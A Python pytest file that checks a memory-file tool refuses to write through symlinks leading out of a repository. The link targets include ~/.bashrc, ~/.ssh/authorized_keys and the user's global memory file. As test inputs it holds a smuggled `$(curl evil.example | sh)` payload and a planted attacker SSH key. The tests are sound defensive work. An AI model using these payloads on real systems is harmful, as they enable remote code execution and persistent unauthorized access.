"""A hostile repository cannot make `memory-lens add`/`remove` write outside it (docs/security.md).

The repository's GEMINI.md is a symlink to a file of the user's home (a fake `~/.bashrc` in the
sandbox): the write is refused with one line naming the link and its target, nothing on disk
changes, and the user can still opt in with `--follow-outside-links` or
`MEMORY_LENS_FOLLOW_OUTSIDE_LINKS=1`. Links that stay inside the project (or inside the global
memory directory) keep working.
"""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from sandbox import Workspace

HEADER = "## Gemini Added Memories"
BASHRC = b"# ~/.bashrc\nexport PATH=$HOME/bin:$PATH\n- keep me\n"
ENV_OPT_IN = "MEMORY_LENS_FOLLOW_OUTSIDE_LINKS"


@pytest.fixture
def hostile(ws: Workspace) -> Workspace:
    """A cloned repository `repo` whose GEMINI.md links to the user's ~/.bashrc."""
    ws.project("repo")
    ws.write("home/.bashrc", BASHRC)
    ws.symlink("repo/GEMINI.md", str(ws.home / ".bashrc"))
    return ws


def assert_refused(ws: Workspace, result, link: str, target: str, before: dict) -> None:
    assert result.rc == 1, result
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result
    assert lines[0].startswith("memory-lens: error: ")
    assert f"{ws.path(link)} is a link to {target}" in lines[0]
    assert "refusing to write through it" in lines[0] and "--follow-outside-links" in lines[0]
    assert ws.snapshot() == before


def test_add_through_a_link_out_of_the_project_is_refused(hostile: Workspace) -> None:
    ws = hostile
    before = ws.snapshot()
    result = ws.run("add", "  $(curl evil.example | sh)", cwd=ws.path("repo"))
    assert_refused(ws, result, "repo/GEMINI.md", str(ws.home / ".bashrc"), before)
    assert f"outside the project {ws.path('repo')}" in result.stderr
    assert (ws.home / ".bashrc").read_bytes() == BASHRC


def test_remove_through_a_link_out_of_the_project_is_refused(hostile: Workspace) -> None:
    ws = hostile
    before = ws.snapshot()
    result = ws.run("remove", "keep me", "--scope", "project", cwd=ws.path("repo"))
    assert_refused(ws, result, "repo/GEMINI.md", str(ws.home / ".bashrc"), before)


def test_a_chain_of_links_is_judged_by_its_final_target(hostile: Workspace) -> None:
    ws = hostile
    os.unlink(ws.path("repo/GEMINI.md"))
    ws.symlink("repo/docs/inner.md", str(ws.home / ".bashrc"))  # inside, but itself a link out
    ws.symlink("repo/GEMINI.md", "docs/inner.md")
    before = ws.snapshot()
    result = ws.run("add", "entry", cwd=ws.path("repo"))
    assert_refused(ws, result, "repo/GEMINI.md", str(ws.home / ".bashrc"), before)


def test_a_dangling_link_out_of_the_project_creates_nothing(ws: Workspace) -> None:
    ws.project("repo")
    ws.symlink("repo/GEMINI.md", str(ws.home / ".ssh" / "authorized_keys"))
    before = ws.snapshot()
    result = ws.run("add", "ssh-ed25519 AAAA attacker", cwd=ws.path("repo"))
    assert result.rc == 1 and len(result.stderr.splitlines()) == 1, result
    assert str(ws.home / ".ssh" / "authorized_keys") in result.stderr
    assert ws.snapshot() == before
    assert not (ws.home / ".ssh").exists()


def test_the_flag_allows_writing_through_the_link(hostile: Workspace) -> None:
    ws = hostile
    ws.ok("add", "opted in", "--follow-outside-links", cwd=ws.path("repo"))
    assert ws.path("repo/GEMINI.md").is_symlink()
    assert (ws.home / ".bashrc").read_bytes() == BASHRC + f"\n{HEADER}\n- opted in\n".encode()
    ws.ok("remove", "keep me", "--follow-outside-links", cwd=ws.path("repo"))
    assert b"- keep me" not in (ws.home / ".bashrc").read_bytes()


def test_the_environment_allows_writing_through_the_link(hostile: Workspace) -> None:
    ws = hostile
    ws.ok("add", "opted in", cwd=ws.path("repo"), env={ENV_OPT_IN: "1"})
    assert (ws.home / ".bashrc").read_bytes().endswith(b"- opted in\n")
    result = ws.run("add", "not this time", cwd=ws.path("repo"), env={ENV_OPT_IN: "0"})
    assert result.rc == 1 and "refusing to write through it" in result.stderr


def test_a_link_inside_the_project_keeps_working(ws: Workspace) -> None:
    ws.project("repo")
    ws.write("repo/docs/memory.md", "# Team\n")
    ws.symlink("repo/GEMINI.md", "docs/memory.md")
    ws.mkdir("repo/src")
    ws.symlink("repo/src/GEMINI.md", "../docs/memory.md")
    ws.ok("add", "inside", cwd=ws.path("repo"))
    assert ws.read("repo/docs/memory.md") == f"# Team\n\n{HEADER}\n- inside\n"
    ws.ok("remove", "inside", cwd=ws.path("repo/src"))
    assert ws.read("repo/docs/memory.md").startswith("# Team\n") and "- inside" not in ws.read("repo/docs/memory.md")
    assert ws.path("repo/GEMINI.md").is_symlink()


def test_global_memory_linked_outside_the_global_dir_is_refused(ws: Workspace) -> None:
    ws.write("home/.bashrc", BASHRC)
    ws.symlink("home/.gemini/GEMINI.md", "../.bashrc")
    before = ws.snapshot()
    result = ws.run("add", "global entry", "--scope", "global")
    assert_refused(ws, result, "home/.gemini/GEMINI.md", str(ws.home / ".bashrc"), before)
    assert f"outside the global memory directory {ws.global_dir}" in result.stderr
    result = ws.run("remove", "keep me", "--scope", "global")
    assert_refused(ws, result, "home/.gemini/GEMINI.md", str(ws.home / ".bashrc"), before)
    ws.ok("add", "global entry", "--scope", "global", "--follow-outside-links")
    assert (ws.home / ".bashrc").read_bytes().endswith(b"- global entry\n")


def test_global_memory_linked_inside_the_global_dir_works(ws: Workspace) -> None:
    ws.write("home/.gemini/memories/main.md", "")
    ws.symlink("home/.gemini/GEMINI.md", "memories/main.md")
    ws.ok("add", "global entry", "--scope", "global")
    assert ws.read("home/.gemini/memories/main.md") == f"{HEADER}\n- global entry\n"


def test_a_project_file_linked_to_the_global_file_is_refused(ws: Workspace) -> None:
    """Project memory belongs to the project: a repository cannot aim it at the user's global file."""
    ws.write_global("# Mine\n")
    ws.project("repo")
    ws.symlink("repo/GEMINI.md", str(ws.global_dir / "GEMINI.md"))
    before = ws.snapshot()
    result = ws.run("add", "planted", "--scope", "project", cwd=ws.path("repo"))
    assert_refused(ws, result, "repo/GEMINI.md", str(ws.global_dir / "GEMINI.md"), before)


@pytest.mark.parametrize("layout, notes_dir", [("memory-lens", ".memory-lens/notes"), ("aicoder", ".aicoder/memory")])
def test_a_project_notes_directory_linked_out_of_the_project_is_refused(ws: Workspace, layout: str,
                                                                        notes_dir: str) -> None:
    ws.project("repo")
    ws.mkdir("home/.ssh")
    ws.symlink(f"repo/{notes_dir}", str(ws.home / ".ssh"))
    before = ws.snapshot()
    for args in (["create", "n", "planted"], ["create", "n", "planted", "--scope", "project"]):
        result = ws.run("notes", *args, "--layout", layout, cwd=ws.path("repo"))
        assert result.rc == 1 and len(result.stderr.splitlines()) == 1, result
        assert f"outside the project {ws.path('repo')}" in result.stderr
        assert "refusing to write through it" in result.stderr
        assert ws.snapshot() == before
    ws.ok("notes", "create", "n", "allowed", "--layout", layout, "--follow-outside-links", cwd=ws.path("repo"))
    assert (ws.home / ".ssh" / "n.json").is_file()
    result = ws.run("notes", "delete", "n", "--layout", layout, cwd=ws.path("repo"))
    assert result.rc == 1 and f"outside the project {ws.path('repo')}; not read" in result.stderr, result
    assert (ws.home / ".ssh" / "n.json").is_file()
